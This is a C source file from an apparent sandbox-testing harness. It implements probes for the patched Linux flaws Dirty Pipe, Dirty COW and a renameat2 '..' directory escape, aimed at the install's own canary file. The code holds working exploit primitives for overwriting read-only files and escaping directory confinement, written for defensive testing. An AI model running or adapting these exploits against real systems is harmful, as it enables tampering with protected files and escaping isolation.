/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Flaws of kernels that were mended, by calls that no filter can refuse; see hostile.h. What they
 * reach for is a file of the install, whose pages in the cache are those of every instance.
 */
#include "hostile.h"

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define TEXT "as it was"

static int open_canary(int flags)
{
	char path[512], *slash;
	ssize_t n = readlink("/proc/self/exe", path, sizeof(path) - 32);

	if (n < 0)
		return -1;
	path[n] = '\0';
	slash = strrchr(path, '/');
	snprintf(slash, 32, "/../canary");
	return open(path, flags | O_CLOEXEC);
}

static struct verdict look_at_canary(void)
{
	char text[sizeof(TEXT)] = "";
	int fd = open_canary(O_RDONLY);

	if (fd < 0 || read(fd, text, sizeof(TEXT) - 1) < 0)
		return denied();
	close(fd);
	if (strcmp(text, TEXT) != 0)
		return succeeded("the install says '%s'", text);
	return reached("it is as it was");
}

/* CVE-2022-0847: what is written to the pipe went into the page that was spliced before. */
static struct verdict dirty_pipe(void)
{
	int canary = open_canary(O_RDONLY), pipe_ends[2], size;
	static char block[4096];
	loff_t at = 0;

	if (canary < 0 || pipe(pipe_ends) < 0)
		return denied();
	size = fcntl(pipe_ends[1], F_GETPIPE_SZ);
	for (int i = 0; i < size / (int)sizeof(block); i++)
		if (write(pipe_ends[1], block, sizeof(block)) < 0)
			return denied();
	for (int i = 0; i < size / (int)sizeof(block); i++)
		if (read(pipe_ends[0], block, sizeof(block)) < 0)
			return denied();
	if (splice(canary, &at, pipe_ends[1], NULL, 1, 0) < 0 || write(pipe_ends[1], "XX", 2) < 0)
		return denied();
	return look_at_canary();
}

struct cow {
	char *map;
	atomic_bool done;
};

static void *drop_copy(void *argument)
{
	struct cow *cow = argument;

	while (!cow->done)
		madvise(cow->map, 4096, MADV_DONTNEED);
	return NULL;
}

/* CVE-2016-5195: written between the copy's making and its loss, into the file's own page. */
static struct verdict dirty_cow(void)
{
	struct cow cow = {.done = false};
	int canary = open_canary(O_RDONLY), memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	pthread_t thread;

	if (canary < 0 || memory < 0)
		return denied();
	cow.map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, canary, 0);
	if (cow.map == MAP_FAILED || pthread_create(&thread, NULL, drop_copy, &cow) != 0)
		return denied();
	for (unsigned i = 0; i < rounds(); i++)
		(void)!pwrite(memory, "XX", 2, (off_t)(uintptr_t)cow.map);
	cow.done = true;
	pthread_join(thread, NULL);
	return look_at_canary();
}

struct exchange {
	char a[64], b[64];
	atomic_bool done;
};

static void *exchange(void *argument)
{
	struct exchange *names = argument;

	while (!names->done)
		syscall(SYS_renameat2, AT_FDCWD, names->a, AT_FDCWD, names->b, 2U);
	return NULL;
}

static int leads_out(int from)
{
	int top = openat(from, "../../../../../../../..", O_PATH | O_CLOEXEC), found = 0;
	struct stat here, root;

	if (top >= 0 && fstat(top, &here) == 0 && stat("/", &root) == 0)
		found = here.st_dev != root.st_dev || here.st_ino != root.st_ino;
	if (top >= 0)
		close(top);
	return found;
}

/* CVE-2015-2925: ".." of a directory that is moved away meanwhile. */
static struct verdict dotdot(void)
{
	char base[] = "/tmp/dotdot.XXXXXX", inner[80];
	struct exchange names = {.done = false};
	struct verdict verdict = reached("every '..' ends at the root");
	pthread_t thread;
	int fd;

	if (!mkdtemp(base))
		return denied();
	snprintf(names.a, sizeof(names.a), "%s/a", base);
	snprintf(names.b, sizeof(names.b), "%s/b", base);
	snprintf(inner, sizeof(inner), "%s/c", names.a);
	mkdir(names.a, 0700);
	mkdir(names.b, 0700);
	mkdir(inner, 0700);
	fd = open(inner, O_PATH | O_CLOEXEC);
	if (pthread_create(&thread, NULL, exchange, &names) != 0)
		return denied();
	for (unsigned i = 0; i < rounds() && verdict.kind == VERDICT_REACHED; i++)
		if (leads_out(fd))
			verdict = succeeded("round %u ended outside", i);
	names.done = true;
	pthread_join(thread, NULL);
	return verdict;
}

static const struct probe list[] = {
	{"kernel-dirty-pipe",
	 "62",
	 "Dirty Pipe into a file of the install",
	 NOTHING,
	 dirty_pipe,
	 {0}},
	{"kernel-dirty-cow", "62", "Dirty COW into a file of the install", NOTHING, dirty_cow, {0}},
	{"kernel-dotdot", "6,20", "'..' of a directory on its way elsewhere", NOTHING, dotdot, {0}},
};
const struct family family_kernel = {list, ARRAY_SIZE(list)};
